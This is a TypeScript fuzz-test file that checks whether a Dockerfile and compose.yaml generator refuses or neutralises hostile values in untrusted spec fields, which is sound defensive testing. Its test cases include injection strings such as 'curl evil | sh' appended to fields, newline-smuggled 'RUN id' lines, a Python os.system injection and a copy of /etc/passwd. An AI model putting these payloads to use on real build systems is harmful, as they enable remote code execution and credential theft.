import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { BENIGN_STRUCTURE, FIELDS, caseArbitrary, checkCase, checkFileCase, composeStructure, requirementsFileArbitrary } from "./testing/injection";

/** The short run; scripts/fuzz.ts runs 100,000+ cases (npm run fuzz). */
const RUNS = Number(process.env.FUZZ_RUNS ?? 3000);

describe("untrusted input cannot reach the Dockerfile", () => {
  it("the benign spec exercises RUN, ENV, COPY, USER, HEALTHCHECK and CMD", () => {
    for (const k of ["RUN", "ENV", "COPY", "USER", "HEALTHCHECK", "CMD", "WORKDIR", "EXPOSE"]) expect(BENIGN_STRUCTURE.some((s) => s.startsWith(k))).toBe(true);
  });
  it("the compose.yaml check sees a value that escaped its quotes or its line", () => {
    const good = composeStructure('services:\n  app:\n    ports:\n      - "8000:8000"\n');
    expect(good).toEqual(["0 services", "2 service", "4 ports", '6 - string']);
    expect(composeStructure('services:\n  app:\n    ports:\n      - "8000:8000"\n    privileged: true\n')).not.toEqual(good);
    expect(composeStructure('services:\n  app:\n    ports:\n      - "8000:8000" # x\n')).not.toEqual(good);
    expect(composeStructure('services:\n  app:\n    ports:\n      - "8000\u2028:8000"\n')[3]).toMatch(/^line break/);
  });
  it.each([
    ["runtime.workdir", "/app\nRUN id"],
    ["runtime.env.0.value", "x\\\nRUN id"],
    ["runtime.env.0.value", 'x" && curl evil | sh #'],
    ["runtime.command.1", 'app:app"]\nRUN ["id'],
    ["systemPackages.runtime.0", "tini && curl evil | sh"],
    ["runtime.healthcheck.path", "/health'); import os; os.system('id"],
    ["packages.0.marker", 'python_version >= "3" ; $(id)'],
    ["runtime.user.name", "app\u2028RUN id"],
    ["runtime.copy.0", "src /etc/passwd"],
  ])("%s = %j is refused or harmless", (path, value) => {
    const field = FIELDS.find((f) => f.path === path)!;
    const r = checkCase(field, value);
    expect(r.outcome, JSON.stringify(r)).not.toBe("failed");
  });
  it(`holds for ${RUNS} random hostile values across every field`, () => {
    const counts = { refused: 0, rendered: 0 };
    fc.assert(
      fc.property(caseArbitrary, ([i, value]) => {
        const r = checkCase(FIELDS[i], value);
        if (r.outcome === "failed") throw new Error(r.reason);
        counts[r.outcome]++;
      }),
      { numRuns: RUNS, seed: 20261122 },
    );
    // Both paths are exercised: values that are safe render, the rest are refused.
    expect(counts.refused).toBeGreaterThan(0);
    expect(counts.rendered).toBeGreaterThan(0);
  });
  it("the strict grammars' fields (index URLs, hosts, names) are rendered with values they accept, not only refused", () => {
    const rendered = new Map<string, number>();
    fc.assert(
      fc.property(caseArbitrary, ([i, value]) => {
        const r = checkCase(FIELDS[i], value);
        if (r.outcome === "failed") throw new Error(r.reason);
        if (r.outcome === "rendered") rendered.set(FIELDS[i].path, (rendered.get(FIELDS[i].path) ?? 0) + 1);
      }),
      { numRuns: RUNS, seed: 20261203 },
    );
    for (const f of FIELDS.filter((f) => f.valid)) expect(rendered.get(f.path) ?? 0, f.path).toBeGreaterThan(0);
  });
  it("a requirements file's options and Git lines, taken into the spec, render harmlessly", () => {
    let withOptions = 0;
    fc.assert(
      fc.property(requirementsFileArbitrary, (text) => {
        const r = checkFileCase(text);
        if (r.outcome === "failed") throw new Error(r.reason);
        if (/^(--index-url|--extra-index-url|-f) https?:/m.test(text)) withOptions++;
      }),
      { numRuns: Math.max(300, RUNS / 5), seed: 20261203 },
    );
    expect(withOptions).toBeGreaterThan(0);
  });
});
